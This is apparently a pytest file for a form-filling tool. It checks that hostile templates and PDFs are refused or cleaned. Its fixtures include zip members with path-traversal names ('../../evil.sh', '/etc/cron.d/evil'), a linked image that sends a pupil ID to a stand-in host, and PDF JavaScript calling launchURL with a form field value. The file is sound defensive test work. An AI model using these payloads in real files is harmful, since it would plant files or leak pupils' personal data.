"""Hostile and odd files, round two: packages with members named twice or
outside the package, templates linking to things outside the file, PDF forms
with active content or a wrongly typed catalogue. The real command in its own
process, within 5 s and 300 MB; the files are made here."""

from __future__ import annotations

import io
import os
import warnings
import zipfile
from pathlib import Path

import docx
import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from formkit.resources import bundled
from tests.hostile.build_cases import linked_image
from tests.hostile.test_hostile import MAX_RSS_MB, MAX_SECONDS, REGISTER, TERM, contents, run_measured

FORMS = Path(__file__).resolve().parents[1] / "data" / "forms"
pytestmark = pytest.mark.skipif(not hasattr(os, "wait4"), reason="needs POSIX wait4 to measure memory")


def _members(path: Path) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(path) as zf:
        return [(name, zf.read(name)) for name in zf.namelist()]


def _docx_members() -> list[tuple[str, bytes]]:
    document = docx.Document()
    document.add_paragraph("Name: {{ pupil.name }}")
    buffer = io.BytesIO()
    document.save(buffer)
    with zipfile.ZipFile(buffer) as zf:
        return [(name, zf.read(name)) for name in zf.namelist()]


def _zip(path: Path, members: list[tuple[str, bytes]]) -> Path:
    with warnings.catch_warnings(), zipfile.ZipFile(path, "w") as zf:
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate we mean to write
        for name, data in members:
            zf.writestr(name, data)
    return path


def _run(args: list[str], work: Path) -> tuple[int, str, list[str]]:
    code, output, seconds, peak_mb = run_measured(args, work)
    assert "Traceback" not in output, output
    assert seconds < MAX_SECONDS and peak_mb < MAX_RSS_MB, (seconds, peak_mb)
    return code, output, [line for line in output.splitlines() if line.startswith("Error: ")]


def _template_cases(tmp: Path) -> dict[str, tuple[Path, str]]:
    good = _docx_members()
    body = dict(good)["word/document.xml"]
    return {
        "a member twice": (_zip(tmp / "twice.docx", [*good, ("word/document.xml", body.replace(b"Name", b"Evil"))]),
                           "twice.docx: refused: its part 'word/document.xml' is in it twice"),
        "a member twice in another case": (_zip(tmp / "case.docx", [*good, ("Word/Document.xml", body)]),
                                           "case.docx: refused: its part 'Word/Document.xml' is in it twice"),
        "a ../ member": (_zip(tmp / "dotdot.docx", [*good, ("../../evil.sh", b"echo hi")]),
                         "dotdot.docx: refused: its part '../../evil.sh' is named as a path outside the package"),
        "an absolute member": (_zip(tmp / "absolute.docx", [*good, ("/etc/cron.d/evil", b"* * * * * x")]),
                               "absolute.docx: refused: its part '/etc/cron.d/evil' is named as a path outside"),
        "a linked image": (_zip(tmp / "linked.docx", list(linked_image(dict(good), "http://example.invalid/{{ pupil.upn }}.png").items())),
                           "linked.docx: refused: it links to 1 thing(s) outside the file, which would be fetched "
                           "when a document is opened or made into a PDF: image 'http://example.invalid/"),
    }


CASES = ["a member twice", "a member twice in another case", "a ../ member", "an absolute member", "a linked image"]


@pytest.mark.parametrize("case", CASES, ids=CASES)
def test_a_template_with_odd_members_or_links_is_refused_and_named(tmp_path: Path, case: str):
    template, says = _template_cases(tmp_path)[case]
    work = tmp_path / "work"
    work.mkdir()
    for command in (["generate", "ieps", "--register", REGISTER, "--out", "out", "--template", str(template), *TERM],
                    ["templates", "check", str(template)]):
        code, output, errors = _run(command, work)
        assert code == 1 and errors and says in errors[0], output
        assert contents(work) == []


def test_a_register_with_a_member_outside_the_package_is_refused(tmp_path: Path):
    register = _zip(tmp_path / "register.xlsx", [*_members(bundled("samples", "register.xlsx")), ("../x.xml", b"<x/>")])
    work = tmp_path / "work"
    work.mkdir()
    code, output, errors = _run(["generate", "ieps", "--register", str(register), "--out", "out", *TERM], work)
    assert code == 1 and errors, output
    assert "register.xlsx: refused: its part '../x.xml' is named as a path outside the package" in errors[0]
    assert contents(work) == []


def _active_form(path: Path) -> Path:
    writer = PdfWriter(clone_from=str(FORMS / "la-request.pdf"))
    script = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                               NameObject("/JS"): TextStringObject("app.launchURL('http://example.invalid/'+this.getField('UPN').value)")})
    ref = writer._add_object(script)
    writer._root_object[NameObject("/OpenAction")] = ref
    names = DictionaryObject({NameObject("/JavaScript"): writer._add_object(DictionaryObject({
        NameObject("/Names"): ArrayObject([TextStringObject("x"), ref])}))})
    writer._root_object[NameObject("/Names")] = writer._add_object(names)
    for page in writer.pages:
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): ref})
    with path.open("wb") as f:
        writer.write(f)
    return path


def _active_keys(path: Path) -> list[str]:
    reader = PdfReader(str(path))
    found = []
    root = reader.trailer["/Root"].get_object()
    found += [k for k in ("/OpenAction", "/AA") if k in root]
    if "/Names" in root and "/JavaScript" in root["/Names"].get_object():
        found.append("/Names/JavaScript")
    found += [f"page {i} /AA" for i, page in enumerate(reader.pages) if "/AA" in page]
    return found


def test_a_filled_pdf_form_carries_no_active_content(tmp_path: Path):
    form = _active_form(tmp_path / "la-request.pdf")
    assert _active_keys(form) == ["/OpenAction", "/Names/JavaScript", "page 0 /AA"]
    work = tmp_path / "work"
    work.mkdir()
    code, output, _ = _run(["generate", "pdf", "--form", str(form), "--fields", str(FORMS / "la-request.toml"),
                            "--register", REGISTER, "--out", "out", *TERM, "--only", "L801200025022"], work)
    assert code == 0, output
    [filled] = list((work / "out").rglob("*.pdf"))
    assert _active_keys(filled) == []
    assert b"JavaScript" not in filled.read_bytes() and b"launchURL" not in filled.read_bytes()


def _raw_pdf(objects: list[bytes], root: int) -> bytes:
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


def test_a_pdf_with_a_wrongly_typed_catalogue_is_one_rejected_file(tmp_path: Path):
    folder = tmp_path / "returned"
    folder.mkdir()
    (folder / "a-good.pdf").write_bytes((FORMS / "impact.pdf").read_bytes())
    (folder / "root-is-a-number.pdf").write_bytes(_raw_pdf([b"5"], 1))
    (folder / "root-is-an-array.pdf").write_bytes(_raw_pdf([b"[1 2 3]"], 1))
    writer = PdfWriter(clone_from=str(FORMS / "impact.pdf"))
    writer._root_object[NameObject("/AcroForm")] = ArrayObject([NumberObject(3)])
    with (folder / "form-is-an-array.pdf").open("wb") as f:
        writer.write(f)
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    work = tmp_path / "work"
    work.mkdir()
    code, output, errors = _run(["read", str(folder), "--store", "records.db", "--out", "records.json"], work)
    assert sorted(errors) == [
        f"Error: {folder / 'form-is-an-array.pdf'}: is damaged: its form (/AcroForm) is not a dictionary (ArrayObject); save it again",
        f"Error: {folder / 'root-is-a-number.pdf'}: is damaged: its catalogue (/Root) is not a dictionary (NumberObject); save it again",
        f"Error: {folder / 'root-is-an-array.pdf'}: is damaged: its catalogue (/Root) is not a dictionary (ArrayObject); save it again",
    ], output
    assert "4 files: 1 read, 0 read with warnings, 3 rejected; 1 record." in output
    assert len(output.splitlines()) < 12, output  # no flood of pypdf warnings
    assert sorted(contents(work)) == ["formkit-audit.jsonl", "records.db", "records.json"]
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before
